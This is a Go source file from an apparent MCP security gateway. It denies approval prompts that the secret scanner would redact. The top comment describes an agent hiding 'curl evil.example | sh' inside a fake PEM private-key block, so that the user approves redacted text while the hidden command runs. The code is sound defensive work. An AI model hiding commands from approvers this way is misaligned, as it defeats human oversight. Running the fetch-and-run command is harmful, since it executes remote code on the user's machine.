package gatehouse

import (
	"context"
	"strings"

	"github.com/gatehouse-dev/gatehouse/dlp"
)

// An approval prompt that reaches the MCP client (AddTool's elicitation
// question, the passkey ceremony's displayText, a consent request an Asker
// sends through consent/elicitation) passes DLP on its way out, and DLP replaces
// a whole span it takes for a secret: a PEM private-key block, a
// password= value. The span's text is the agent's, so an agent could hide
// what it asks for inside one ("echo hello\n-----BEGIN RSA PRIVATE
// KEY-----\ncurl evil.example | sh\n...") and the user approved
// "echo hello\n[REDACTED:private-key]" while the handler ran the rest. A
// prompt that DLP would redact is therefore never shown: the call is
// denied with this reason (DESIGN §3 item 14: a prompt never hides a value
// silently; if it cannot show one, it refuses to ask). The text checked is
// the prompt as sent, not the arguments alone: AddTool's question puts the
// agent's name before them, and a passkey displayText is what a Describe
// function makes of them; a span may open in one part and close in
// another, or exist only once values are joined (red team of the fix).

// hiddenBySecretScan is the reason of such a denial, naming the rules.
func hiddenBySecretScan(fs []dlp.Finding) string {
	names := make([]string, 0, len(fs))
	for _, f := range fs {
		names = append(names, f.Rule)
	}
	return "The approval prompt (the arguments, or the text shown around them) holds text the secret scanner would redact (" + strings.Join(names, ", ") +
		"), so the user could not see what they approve; the call was denied. Send secrets by reference ({{vault:NAME}}) to a server-side approver (Options.Ask), or without them"
}

// promptHidden returns the findings of the guard's DLP scanner in raw
// arguments (JSON) an approval prompt would show; nil without a scanner.
// Arguments that cannot be scanned count as hidden.
func (g *Guard) promptHidden(raw []byte) ([]dlp.Finding, bool) {
	if g.dlp == nil {
		return nil, false
	}
	if len(strings.TrimSpace(string(raw))) == 0 {
		return nil, false
	}
	_, fs, err := g.dlp.RedactJSON(raw)
	if err != nil {
		return []dlp.Finding{{Rule: "unscannable"}}, true
	}
	return fs, len(fs) > 0
}

// questionHidden returns the findings of the guard's DLP scanner in an
// approval question as it is sent. The arguments alone are not enough: the
// question puts a header before them (the agent's self-declared name), and
// a span DLP redacts may open in the header and close in a value, hiding
// the tool's name and every argument line in between while neither part
// alone holds a finding.
func (g *Guard) questionHidden(text string) ([]dlp.Finding, bool) {
	if g.dlp == nil {
		return nil, false
	}
	_, fs := g.dlp.Redact(text)
	return fs, len(fs) > 0
}

// approvalPromptKey marks the context of an Asker's question: an
// elicitation/create sent with it (consent/elicitation asks the user
// through the client) is an approval prompt, refused rather than sent
// redacted. Other elicitations are the server's own and are redacted as
// usual.
type approvalPromptKey struct{}

func withApprovalPrompt(ctx context.Context) context.Context {
	return context.WithValue(ctx, approvalPromptKey{}, true)
}

func isApprovalPrompt(ctx context.Context) bool {
	v, _ := ctx.Value(approvalPromptKey{}).(bool)
	return v
}
